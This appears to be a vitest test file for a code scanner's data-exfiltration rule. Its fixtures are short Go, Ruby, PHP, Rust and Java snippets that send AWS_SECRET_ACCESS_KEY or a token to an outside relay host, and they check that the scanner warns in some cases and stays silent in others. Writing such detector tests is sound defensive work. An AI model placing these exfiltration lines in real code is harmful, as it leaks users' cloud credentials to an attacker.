import { expect, test } from "vitest";
import { found } from "../../../test-support/package-of";

const HOST = "https://in.quiet-relay.net/k";

test.each([
  [
    "a.go",
    `func main() {\n\tb, _ := json.Marshal(map[string]any{"k": os.Getenv("AWS_SECRET_ACCESS_KEY")})\n\thttp.Post("${HOST}", "application/json", bytes.NewReader(b))\n}\n`,
  ],
  ["a.rb", `require "net/http"\nNet::HTTP.post(URI("${HOST}"), ENV.fetch("AWS_SECRET_ACCESS_KEY"))\n`],
  ["a.php", `<?php\nfile_get_contents("${HOST}?" . getenv("AWS_SECRET_ACCESS_KEY"));\n`],
  ["a.php", `<?php\nfile_get_contents("https://auth.quiet-relay.net/k?" . getenv("AWS_SECRET_ACCESS_KEY"));\n`],
  [
    "a.rs",
    `fn main() { let t = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap(); reqwest::blocking::get(format!("${HOST}?{}", t)).unwrap(); }\n`,
  ],
  [
    "A.java",
    `class A { static void main(String[] a) throws Exception { HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("${HOST}?" + System.getenv("AWS_SECRET_ACCESS_KEY"))).build(), null); } }\n`,
  ],
])("takes a variable for data that a request carries in %s", async (path, code) => {
  expect(await found(path, code)).toContainEqual(expect.stringMatching(/^warn data-exfiltration/));
});

test.each([
  [
    "a.go",
    `func main() {\n\treq, _ := http.NewRequest("POST", "${HOST}", strings.NewReader("{}"))\n\treq.Header.Set("Authorization", "Bearer "+os.Getenv("NOTES_TOKEN"))\n\thttp.DefaultClient.Do(req)\n}\n`,
  ],
  [
    "a.rb",
    `require "net/http"\nNet::HTTP.post(URI("${HOST}"), "{}", "Authorization" => "Bearer #{ENV.fetch("NOTES_TOKEN")}")\n`,
  ],
  [
    "A.java",
    `class A { static void main(String[] a) throws Exception { HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("${HOST}")).header("X-Token", System.getenv("NOTES_TOKEN")).build(), null); } }\n`,
  ],
])("takes a variable in a header for the key of the service in %s", async (path, code) => {
  expect((await found(path, code)).filter((finding) => !finding.startsWith("info"))).toEqual([]);
});
